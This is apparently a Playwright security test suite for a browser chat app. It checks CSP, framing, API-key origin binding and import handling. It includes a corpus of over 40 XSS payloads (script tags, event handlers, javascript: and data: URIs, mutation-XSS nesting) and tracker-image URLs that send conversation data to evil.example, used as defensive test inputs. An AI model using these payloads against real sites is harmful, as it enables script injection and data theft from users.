import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page, Request } from '@playwright/test';
import { conversationId, expect, lastAssistant, recordChatRequests, sendMessage, simulate, test } from './fixtures';

/** Everything a hostile reply could do that we watch for: dialogs, script, requests elsewhere. */
function watch(page: Page) {
  const dialogs: string[] = [];
  const foreign: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('request', (r: Request) => {
    const url = new URL(r.url());
    if (!['localhost:4173', ''].includes(url.host) && !url.protocol.startsWith('blob') && !url.protocol.startsWith('data'))
      foreign.push(r.url());
  });
  return {
    async expectNothingHappened() {
      expect(dialogs).toEqual([]);
      expect(foreign).toEqual([]);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    },
  };
}

const P = 'window.__pwned=1';
const XSS_CORPUS = [
  `<script>${P}</script>`,
  `<img src=x onerror="${P}">`,
  `<svg onload="${P}"></svg>`,
  `<svg><script>${P}</script></svg>`,
  `<iframe src="javascript:${P}"></iframe>`,
  `<iframe srcdoc="<script>parent.${P}</script>"></iframe>`,
  `<object data="javascript:${P}"></object>`,
  `<embed src="javascript:${P}">`,
  `<a href="javascript:${P}">html link</a>`,
  `<details open ontoggle="${P}"><summary>x</summary></details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${P}">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${P}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<div style="background:url(https://evil.example/bg.png)">styled</div>`,
  `<x onclick="${P}">click</x>`,
  `<body onload="${P}">`,
  `<input autofocus onfocus="${P}">`,
  `[md link](javascript:${P})`,
  `[md link](JaVaScRiPt:${P})`,
  `[md link]( javascript:${P})`,
  `[md link](java&#x09;script:${P})`,
  `[md link](&#106;avascript:${P})`,
  `[md link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[md link](vbscript:msgbox(1))`,
  `[md link](file:///etc/passwd)`,
  `[ref link][r]\n\n[r]: javascript:${P}`,
  `![img](javascript:${P})`,
  `![img](data:image/svg+xml,<svg onload="${P}">)`,
  `![tracker](https://evil.example/leak?c=secret-conversation)`,
  `![tracker][t]\n\n[t]: https://evil.example/ref-leak.png`,
  `<img src="https://evil.example/raw-img.png">`,
  '```js" onmouseover="' + P + '\nconsole.log(1)\n```',
  '```<img src=x onerror="' + P + '">\ncode\n```',
  '```language-js onclick=' + P + '\ncode\n```',
  `<https://evil.example/autolink>`,
  `| <img src=x onerror="${P}"> | b |\n| - | - |\n| [t](javascript:${P}) | 2 |`,
  `> <script>${P}</script> quoted`,
  `- [x] <img src=x onerror="${P}"> task`,
  `&lt;script&gt;${P}&lt;/script&gt; entities`,
  `<noscript><p title="</noscript><img src=x onerror=${P}>">`,
  `$$\\href{javascript:${P}}{katex href}$$`,
  `$$\\url{javascript:${P}}$$ and \\(\\htmlClass{x}{y}\\)`,
];

test(`an XSS corpus of ${XSS_CORPUS.length} payloads renders as inert text`, async ({ app: page }) => {
  expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(40);
  const w = watch(page);
  // sent in a few messages, each payload in its own paragraph
  for (let i = 0; i < XSS_CORPUS.length; i += 11) {
    await sendMessage(page, `echo: ${XSS_CORPUS.slice(i, i + 11).join('\n\n')}\n\nend of batch ${i}`);
    await expect(lastAssistant(page)).toContainText(`end of batch ${i}`);
    await expect(page.getByRole('button', { name: 'Regenerate' })).toBeVisible();
  }
  const reply = lastAssistant(page);
  // (The app's own icons are lucide's SVGs; nothing from a reply is.)
  await expect(reply.locator('script, iframe, object, embed, form, base, meta, style, img, svg:not(.lucide)')).toHaveCount(0);
  for (const link of await page.locator('article a').all()) {
    expect(await link.getAttribute('href')).toMatch(/^(https?:|mailto:)/);
  }
  // clicking through the inert text does nothing either
  await reply.getByRole('paragraph').first().click();
  await w.expectNothingHappened();
});

test('hostile tool names, arguments and imported conversations stay text', async ({ app: page }) => {
  const w = watch(page);
  await page
    .getByRole('complementary', { name: 'Tools' })
    .getByRole('textbox', { name: 'Tools JSON' })
    .fill(
      JSON.stringify([
        {
          type: 'function',
          function: {
            name: 'lookup',
            description: `<img src=x onerror="${P}">`,
            parameters: { type: 'object', properties: { q: { type: 'string' } } },
          },
        },
      ]),
    );
  await sendMessage(page, `use a tool <img src=x onerror="${P}"> <script>${P}</script>`);
  await expect(page.getByRole('group', { name: 'Tool call: lookup' })).toContainText('<script>');
  const imported = {
    format: 'bitseek-chat.conversations',
    version: 1,
    conversations: [
      {
        id: 'conv-evil',
        title: `<svg onload="${P}">`,
        createdAt: 1,
        updatedAt: 2,
        messages: [
          { id: 'e1', role: 'user', content: `<img src=x onerror="${P}">`, createdAt: 1 },
          {
            id: 'e2',
            role: 'assistant',
            content: `[x](javascript:${P})`,
            createdAt: 2,
            status: 'complete',
            toolCalls: [
              { index: 0, id: 'c<b>', type: 'function', name: `<img src=x onerror="${P}">`, arguments: `{"a":"<script>${P}</script>"}` },
            ],
          },
        ],
      },
    ],
  };
  await page
    .getByLabel('Import conversations from a JSON file')
    .setInputFiles({ name: 'evil.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(imported)) });
  await page
    .getByRole('navigation', { name: 'Conversations' })
    .getByRole('button', { name: `<svg onload="${P}">`, exact: true })
    .click();
  await expect(page.getByRole('group', { name: /Tool call: <img/ })).toContainText('<script>');
  await w.expectNothingHappened();
});

test('images are not fetched until asked; links show where they go', async ({ app: page }) => {
  const requests: string[] = [];
  await page.route('https://img.example.com/**', (route) => {
    requests.push(route.request().url());
    return route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>' });
  });
  await sendMessage(page, 'echo: ![a cat](https://img.example.com/cat.svg) and [the docs](https://docs.example.com/page)');
  const reply = lastAssistant(page);
  await expect(reply).toContainText('Image “a cat” from img.example.com');
  await page.waitForTimeout(300);
  expect(requests).toEqual([]);
  await reply.getByRole('button', { name: 'Load image' }).click();
  await expect(reply.getByRole('img', { name: 'a cat' })).toBeVisible();
  expect(requests).toEqual(['https://img.example.com/cat.svg']);
  await expect(reply.getByRole('img', { name: 'a cat' })).toHaveAttribute('referrerpolicy', 'no-referrer');

  const link = reply.getByRole('link', { name: 'the docs', exact: true });
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(link).toHaveAttribute('title', 'https://docs.example.com/page');
  await link.focus();
  const shown = await link.evaluate((a) => getComputedStyle(a, '::after').content);
  expect(shown).toContain('"https://docs.example.com/page"');
  await expect(link).toBeFocused();
});

test('an image from another origin that sends no Cross-Origin-Resource-Policy loads when asked', async ({ app: page }) => {
  // No Cross-Origin-Embedder-Policy blocks it (`require-corp` would): the page needs no cross-origin isolation.
  const server = createServer((_req, res) =>
    res.writeHead(200, { 'content-type': 'image/svg+xml' }).end('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>'),
  );
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  try {
    const { port } = server.address() as AddressInfo;
    await sendMessage(page, `echo: ![a dog](http://127.0.0.1:${port}/dog.svg)`);
    await lastAssistant(page).getByRole('button', { name: 'Load image' }).click();
    await expect
      .poll(() =>
        lastAssistant(page)
          .getByRole('img', { name: 'a dog' })
          .evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth),
      )
      .toBe(10);
  } finally {
    server.close();
  }
});

test('the built page carries a strict Content-Security-Policy', async ({ app: page, cspViolations }) => {
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("object-src 'none'");
  expect(csp).toContain("base-uri 'none'");
  expect(csp).toContain("form-action 'none'");
  expect(csp).toMatch(/connect-src 'self' https:/);
  expect(csp).not.toContain('unsafe-eval');
  expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
  // an inline script, as an injection would add one, is refused by the policy
  const blocked = await page.evaluate(
    () =>
      new Promise<boolean>((resolve) => {
        document.addEventListener('securitypolicyviolation', () => resolve(true), { once: true });
        const script = document.createElement('script');
        script.textContent = 'window.__inline = 1';
        document.body.append(script);
        setTimeout(() => resolve(!(window as unknown as { __inline?: number }).__inline), 500);
      }),
  );
  expect(blocked).toBe(true);
  // that refusal was this test's own doing, not the app's
  expect(cspViolations.length).toBeGreaterThan(0);
  cspViolations.length = 0;
});

test('the key goes to a new endpoint origin only after the person agrees', async ({ app: page }) => {
  const requests = recordChatRequests(page);
  await page.getByRole('button', { name: 'Settings' }).click();
  const dialog = page.getByRole('dialog', { name: 'Settings' });
  await dialog.getByLabel('API key', { exact: true }).fill('sk-origin-bound-0123456789');
  await dialog.getByRole('textbox', { name: 'Endpoint URL' }).fill('http://127.0.0.1:4173/v1');
  await expect(dialog.getByRole('alert')).toContainText('The API key was entered for http://localhost:4173');
  await page.keyboard.press('Escape');

  await sendMessage(page, 'echo: for the new origin');
  const ask = page.getByRole('dialog', { name: 'Send your API key to a new endpoint?' });
  await expect(ask).toContainText('http://127.0.0.1:4173');
  await ask.getByRole('button', { name: 'Don’t send' }).click();
  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('echo: for the new origin');
  expect(requests).toHaveLength(0);

  await page.getByRole('button', { name: 'Send' }).click();
  await ask.getByRole('button', { name: 'Send key to http://127.0.0.1:4173' }).click();
  await expect(lastAssistant(page)).toContainText('for the new origin');
  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('');
  expect(requests).toHaveLength(1);
  expect(requests[0]!.url()).toBe('http://127.0.0.1:4173/v1/chat/completions');
  expect(await requests[0]!.headerValue('authorization')).toBe('Bearer sk-origin-bound-0123456789');

  // the key never lands in exports or the URL
  expect(page.url()).not.toContain('sk-origin');
  const download = page.waitForEvent('download');
  await page.getByRole('navigation', { name: 'Conversations' }).getByRole('button', { name: 'Import and export' }).click();
  await page.getByRole('menuitem', { name: 'Export all' }).click();
  const text = await (await import('node:fs/promises')).readFile((await (await download).path())!, 'utf8');
  expect(text).not.toContain('sk-origin-bound');
});

test('a full or failing storage is reported, nothing is lost, and saving recovers', async ({ page }) => {
  await page.addInitScript(() => {
    const put = IDBObjectStore.prototype.put;
    IDBObjectStore.prototype.put = function (...args: Parameters<typeof put>) {
      if ((window as unknown as { __failWrites?: boolean }).__failWrites)
        throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
      return put.apply(this, args);
    };
  });
  await page.goto('/');
  await page.evaluate(() => ((window as unknown as { __failWrites?: boolean }).__failWrites = true));
  await sendMessage(page, 'echo: kept despite a full disk');
  await expect(lastAssistant(page)).toContainText('kept despite a full disk');
  await expect(page.getByRole('alert')).toContainText('Browser storage is full');
  await page.evaluate(() => ((window as unknown as { __failWrites?: boolean }).__failWrites = false));
  await expect(page.getByRole('alert')).toHaveCount(0, { timeout: 10_000 });
  await page.reload();
  await expect(lastAssistant(page)).toContainText('kept despite a full disk');
});

test('the key goes nowhere but the origin it was confirmed for, whatever sends the request', async ({ app: page }) => {
  const withKey: Promise<string | undefined>[] = [];
  const checks: string[] = [];
  page.on('request', (r) => {
    withKey.push(r.allHeaders().then((h) => (h.authorization?.includes('sk-gate') ? new URL(r.url()).origin : undefined)));
    if (r.url().endsWith('/models')) checks.push(r.url());
  });
  await page.getByRole('button', { name: 'Settings' }).click();
  const dialog = page.getByRole('dialog', { name: 'Settings' });
  await dialog.getByLabel('API key', { exact: true }).fill('sk-gate-0123456789abcdef');
  await expect(dialog.getByRole('status')).toContainText('Endpoint reachable');
  const endpoint = dialog.getByRole('textbox', { name: 'Endpoint URL' });
  await endpoint.fill('');
  // typed as a person types: the half-typed hosts are never checked, the whole URL once
  await endpoint.pressSequentially('http://127.0.0.1:4173/v1', { delay: 15 });
  await expect(dialog.getByRole('status')).toContainText('Checked without your API key');
  const toNewOrigin = () => checks.filter((u) => u.startsWith('http://127.0.0.1')).length;
  expect(toNewOrigin()).toBe(1);
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Settings' }).click();
  await expect(dialog.getByRole('status')).toContainText('Checked without your API key');
  await page.keyboard.press('Escape');
  await sendMessage(page, 'echo: not for that origin');
  await page.getByRole('dialog', { name: 'Send your API key to a new endpoint?' }).getByRole('button', { name: 'Don’t send' }).click();

  expect(toNewOrigin()).toBeLessThanOrEqual(2); // one more as Settings reopened
  expect(checks.every((u) => u === 'http://localhost:4173/v1/models' || u === 'http://127.0.0.1:4173/v1/models')).toBe(true);
  expect(new Set((await Promise.all(withKey)).filter(Boolean))).toEqual(new Set(['http://localhost:4173']));
});

test('an endpoint with a user name and password is refused, shown nowhere and never stored', async ({ app: page }) => {
  const foreign: string[] = [];
  page.on('request', (r) => {
    if (r.url().includes('127.0.0.1')) foreign.push(r.url());
  });
  await page.getByRole('button', { name: 'Settings' }).click();
  const dialog = page.getByRole('dialog', { name: 'Settings' });
  await dialog.getByRole('textbox', { name: 'Endpoint URL' }).fill('http://me:hunter2-secret@127.0.0.1:4173/v1');
  await expect(dialog.getByRole('alert')).toContainText('must not contain a user name or password');
  await page.keyboard.press('Escape');
  await sendMessage(page, 'echo: hello');
  const alert = lastAssistant(page).getByRole('alert');
  await expect(alert).toContainText('must not contain a user name or password');
  await expect(alert).not.toContainText('hunter2');
  expect(foreign).toEqual([]);
  expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain('hunter2');
  await page.reload();
  await expect(lastAssistant(page).getByRole('alert')).toContainText('must not contain a user name or password');
  expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain('hunter2');
});

test('a redirect to another origin is not followed: the conversation goes nowhere else', async ({ app: page }) => {
  let reached = 0;
  const elsewhere = createServer((_req, res) => {
    reached += 1;
    res.writeHead(204, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end();
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  try {
    const { port } = elsewhere.address() as AddressInfo;
    await simulate(page, `redirect-to=http://127.0.0.1:${port}/v1/chat/completions`);
    await sendMessage(page, 'echo: where does this go?');
    await expect(lastAssistant(page).getByRole('alert')).toContainText('answered with a redirect');
    await page.waitForTimeout(300);
    expect(reached).toBe(0);
  } finally {
    elsewhere.close();
  }
});

test('a /c/ID link to an unknown id binds nothing until the person says Resume', async ({ page }) => {
  const requests = recordChatRequests(page);
  await page.goto('/c/conv-chosen-by-someone-else');
  const ask = page.getByRole('dialog', { name: 'Resume conversation' });
  await expect(ask).toContainText('A link asks to continue the server conversation “conv-chosen-by-someone-else”');
  await expect(ask.getByRole('textbox', { name: 'Conversation ID to resume' })).toHaveValue('conv-chosen-by-someone-else');
  // a stray Enter does not bind it: Cancel has the focus
  await expect(ask.getByRole('button', { name: 'Cancel' })).toBeFocused();
  await ask.getByRole('button', { name: 'Cancel' }).click();
  await expect(ask).toBeHidden();
  await expect.poll(() => conversationId(page)).not.toBe('conv-chosen-by-someone-else');
  await expect(page).not.toHaveURL(/conv-chosen-by-someone-else/);
  await sendMessage(page, 'echo: my secret');
  await expect(lastAssistant(page)).toContainText('my secret');
  expect(await requests[0]!.headerValue('x-conversation-id')).not.toBe('conv-chosen-by-someone-else');
  await page.reload();
  await expect(page.getByRole('navigation', { name: 'Conversations' })).not.toContainText('conv-chosen-by-someone-else');

  // Escape binds nothing either; a link to a stored conversation just opens it
  await page.goto('/c/conv-chosen-by-someone-else');
  await expect(ask).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(ask).toBeHidden();
  const mine = await conversationId(page);
  await page.goto(`/c/${mine}`);
  await expect(lastAssistant(page)).toContainText('my secret');
  await expect(ask).toBeHidden();
});

for (const id of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']) {
  test(`/c/${id} is an id like any other, not a crash`, async ({ page }) => {
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto(`/c/${id}`);
    const ask = page.getByRole('dialog', { name: 'Resume conversation' });
    await expect(ask.getByRole('textbox', { name: 'Conversation ID to resume' })).toHaveValue(id);
    await ask.getByRole('button', { name: 'Resume' }).click();
    await expect.poll(() => conversationId(page)).toBe(id);
    await sendMessage(page, `echo: kept in this conversation`);
    await expect(lastAssistant(page)).toContainText('kept in this conversation');
    await expect(lastAssistant(page).getByRole('button', { name: 'Regenerate' })).toBeVisible();
    await page.reload();
    await expect.poll(() => conversationId(page)).toBe(id);
    await expect(lastAssistant(page)).toContainText('kept in this conversation');
    expect(errors).toEqual([]);
  });
}

test('an imported record that cannot be shown shows as broken, with its raw record; the app goes on', async ({ page }) => {
  // A rendering failure no validation foresaw, made on purpose for one timestamp.
  await page.addInitScript(() => {
    const toISOString = Date.prototype.toISOString;
    Date.prototype.toISOString = function () {
      if (this.getTime() === 4242) throw new RangeError('cannot show this date');
      return toISOString.call(this);
    };
  });
  await page.goto('/');
  const broken = {
    format: 'bitseek-chat.conversations',
    version: 1,
    conversations: [
      {
        id: 'conv-broken',
        title: 'Broken records',
        createdAt: 1,
        updatedAt: 4242,
        messages: [
          { id: 'b1', role: 'user', content: 'a question', createdAt: 1 },
          // parameters of the wrong type for their key: the stored English is shown instead
          {
            id: 'b2',
            role: 'assistant',
            content: 'partial',
            createdAt: 2,
            status: 'failed',
            problem: { kind: 'protocol', message: 'Stored English text', said: { key: 'notEventStream', params: [5] } },
          },
          { id: 'b3', role: 'user', content: 'another', createdAt: 3 },
          { id: 'b4', role: 'assistant', content: 'the raw words of b4', createdAt: 4242, status: 'complete' },
        ],
      },
    ],
  };
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page
    .getByLabel('Import conversations from a JSON file')
    .setInputFiles({ name: 'broken.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(broken)) });
  await page.getByRole('navigation', { name: 'Conversations' }).getByRole('button', { name: 'Broken records', exact: true }).click();
  const articles = page.getByRole('article', { name: /^Assistant/ });
  await expect(articles.first().getByRole('alert')).toContainText('Stored English text');
  const last = articles.last();
  await expect(last.getByRole('alert')).toContainText('This message could not be shown (cannot show this date)');
  await last.getByText('Show the raw record').click();
  await expect(last).toContainText('the raw words of b4');
  // the rest of the app still works, and after a reload too
  await sendMessage(page, 'echo: still working');
  await page.getByRole('dialog', { name: 'Resume conversation' }).getByRole('button', { name: 'Resume' }).click(); // an imported id
  await expect(lastAssistant(page)).toContainText('still working');
  await page.reload();
  await expect(page.getByRole('article', { name: /^Assistant/ }).filter({ hasText: 'This message could not be shown' })).toHaveCount(1);
  expect(errors).toEqual([]);
});

test('the app cannot be framed, and every response carries its security headers', async ({ page, cspViolations }) => {
  const response = await page.request.get('/c/any');
  const headers = response.headers();
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers['content-security-policy']).toContain("script-src 'self'");
  expect(headers['x-frame-options']).toBe('DENY');
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
  // a page elsewhere that frames the app gets nothing of it
  const framer = createServer((_req, res) =>
    res.writeHead(200, { 'content-type': 'text/html' }).end('<iframe src="http://localhost:4173/" width="800" height="600"></iframe>'),
  );
  await new Promise<void>((resolve) => framer.listen(0, '127.0.0.1', resolve));
  try {
    const { port } = framer.address() as AddressInfo;
    await page.goto(`http://127.0.0.1:${port}/`);
    await page.waitForTimeout(1500);
    const frame = page.frames().find((f) => f !== page.mainFrame());
    expect(await frame?.getByRole('textbox', { name: 'Message' }).count()).toBe(0);
    // the refusal was this test's doing (framing on purpose), not the app's
    expect(cspViolations.join('\n')).toContain('frame-ancestors');
    cspViolations.length = 0;
  } finally {
    framer.close();
  }
});

test('an imported conversation’s id is used only once the person agrees', async ({ app: page }) => {
  const requests = recordChatRequests(page);
  const file = {
    format: 'bitseek-chat.conversations',
    version: 1,
    conversations: [
      {
        id: 'conv-from-a-file',
        title: 'From a file',
        createdAt: 1,
        updatedAt: 2,
        messages: [{ id: 'f1', role: 'user', content: 'earlier', createdAt: 1 }],
      },
    ],
  };
  await page
    .getByLabel('Import conversations from a JSON file')
    .setInputFiles({ name: 'shared.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) });
  await page.getByRole('navigation', { name: 'Conversations' }).getByRole('button', { name: 'From a file', exact: true }).click();
  await sendMessage(page, 'echo: my own words');
  const ask = page.getByRole('dialog', { name: 'Resume conversation' });
  await expect(ask).toContainText('came from an imported file, and its id “conv-from-a-file”');
  await ask.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('echo: my own words');
  expect(requests).toHaveLength(0);

  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await ask.getByRole('button', { name: 'Resume' }).click();
  await expect(lastAssistant(page)).toContainText('my own words');
  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('');
  expect(requests).toHaveLength(1);
  expect(await requests[0]!.headerValue('x-conversation-id')).toBe('conv-from-a-file');
  // asked once: the next message goes at once
  await sendMessage(page, 'echo: and again');
  await expect(lastAssistant(page)).toContainText('and again');
  await expect(ask).toBeHidden();
});

test('settings stored badly (by hand, or by an older version) fall back to defaults, never a white screen', async ({ page }) => {
  await page.addInitScript(() => {
    if (!sessionStorage.getItem('seeded')) {
      sessionStorage.setItem('seeded', '1');
      localStorage.setItem(
        'bitseek-chat.settings',
        JSON.stringify({
          state: { language: 'constructor', endpoint: null, theme: '__proto__', temperature: 'hot', lastTools: { json: 1 } },
          version: 1,
        }),
      );
    }
  });
  await page.goto('/');
  await expect(page.getByRole('textbox', { name: 'Message' })).toBeVisible();
  await sendMessage(page, 'echo: still here');
  await expect(lastAssistant(page)).toContainText('still here');
});
